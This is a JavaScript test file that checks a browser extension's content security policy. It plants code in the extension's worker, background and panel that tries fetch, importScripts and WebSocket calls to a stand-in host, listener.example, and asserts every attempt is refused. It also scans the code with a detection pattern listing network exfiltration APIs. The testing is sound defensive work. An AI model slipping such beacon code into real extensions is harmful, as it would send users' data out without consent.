// Requests of every kind, planted in the panel, in its worker and in the background: the browser refuses them. The code of the
// extension has none, which is read here.

import assert from "node:assert/strict";
import { appendFileSync, cpSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { test } from "node:test";
import { asHtml, pageOf } from "../embed/pages.mjs";
import { ARTICLES, ROOT } from "../wasm/bindings.mjs";
import { BROWSERS, folder } from "./browsers.mjs";
import { end, eventually, inAll, inEach, read, requests } from "./visit.mjs";
import { openWorld } from "./world.mjs";

const PAGE = pageOf(`<article>${asHtml(ARTICLES[0].text)}</article>`, {
  script: "",
  head: '<link rel="icon" href="data:,">',
});
const LISTENER = "http://listener.example/planted";

inEach("whatever is planted in the panel is refused", PAGE, async (visit, running) => {
  await read(visit);
  const outcomes = await visit.inPanel((url) => document.querySelector(".privacy").plant(url), LISTENER);
  assert.ok(Object.keys(outcomes).length >= 16);
  assert.deepEqual(
    Object.entries(outcomes).filter(([, outcome]) => outcome === "sent"),
    [],
  );
  assert.deepEqual(requests(running), []);
  await end(visit);
});

/** Says in its own way that it tried, so that silence is no proof. */
const PLANTED = (where) => `
;(async () => {
  const tried = [];
  const attempt = async (kind, run) => { try { await run(); tried.push(kind + " went"); } catch { tried.push(kind + " refused"); } };
  await attempt("fetch", () => fetch("${LISTENER}?${where}-fetch", { mode: "no-cors" }));
  await attempt("import", () => importScripts("${LISTENER}?${where}-import"));
  await attempt("socket", () => new Promise((open, refuse) => { const socket = new WebSocket("ws://listener.example/${where}-socket"); socket.onopen = open; socket.onerror = refuse; }));
  globalThis.tried = tried;
  globalThis.name ? postMessage({ tried }) : undefined;
})();`;

/** What a copy of the extension that tries to send said of it, and what was heard. */
async function tryToSend(browser, change = (manifest) => manifest) {
  const copy = mkdtempSync(join(tmpdir(), "onrecord-planted-"));
  cpSync(folder(browser.name), copy, { recursive: true });
  for (const file of ["worker", "background", "panel"]) appendFileSync(join(copy, `${file}.js`), PLANTED(file));
  const manifest = join(copy, "manifest.json");
  writeFileSync(manifest, JSON.stringify(change(JSON.parse(readFileSync(manifest, "utf8")))));
  const world = await openWorld();
  const running = await browser.start(world.port, copy);
  try {
    const visit = await running.open(world.put(PAGE));
    await read(visit);
    const tried = await eventually("the panel has tried", () => visit.inPanel(() => globalThis.tried));
    return { tried, heard: world.asked.filter((url) => url.startsWith(LISTENER)).map((url) => url.split("?")[1]) };
  } finally {
    await running.close();
    await world.close();
  }
}

inAll("a copy whose worker, background and panel try to send is not heard", async (browser) => {
  const { tried, heard } = await tryToSend(browser);
  assert.deepEqual(tried, ["fetch refused", "import refused", "socket refused"]);
  assert.deepEqual(heard, []);
});

inAll("without its policy it would be", async (browser) => {
  const open = "default-src * 'self'; script-src 'self' 'wasm-unsafe-eval'; connect-src *";
  const { heard } = await tryToSend(browser, (manifest) => {
    return { ...manifest, content_security_policy: { extension_pages: open } };
  });
  assert.deepEqual(heard.sort(), ["background-fetch", "panel-fetch", "worker-fetch"]);
});

const WAYS_OUT =
  /\bfetch\(|XMLHttpRequest|WebSocket|EventSource|sendBeacon|importScripts|\bnavigation\.|location\s*(\.href)?\s*=[^=]|window\.open|RTCPeerConnection|WebTransport|innerHTML|document\.write|localStorage|sessionStorage|storage\./;

test("what runs in pages has no way out, and touches nothing there", { skip: BROWSERS[0].skip }, () => {
  for (const name of ["page.js", "background.js"]) {
    const code = readFileSync(join(folder("Chromium"), name), "utf8");
    assert.doesNotMatch(code, WAYS_OUT, name);
    assert.doesNotMatch(
      code,
      /\.append\(|appendChild|\.setAttribute|classList|insertBefore|\.style\b|replaceChildren/,
      name,
    );
  }
});

test("it asks for four rights, and for no page's", { skip: BROWSERS[0].skip }, () => {
  for (const [browser, rights] of [
    ["chromium", ["activeTab", "scripting", "contextMenus", "sidePanel"]],
    ["firefox", ["activeTab", "scripting", "contextMenus"]],
  ]) {
    const manifest = JSON.parse(readFileSync(join(ROOT, `dist/extension/${browser}/manifest.json`), "utf8"));
    assert.deepEqual(manifest.permissions, rights);
    for (const name of [
      "host_permissions",
      "optional_host_permissions",
      "content_scripts",
      "web_accessible_resources",
      "externally_connectable",
    ]) {
      assert.equal(manifest[name], undefined, name);
    }
    assert.match(
      manifest.content_security_policy.extension_pages,
      /^default-src 'none'; script-src 'self' 'wasm-unsafe-eval';/,
    );
  }
});
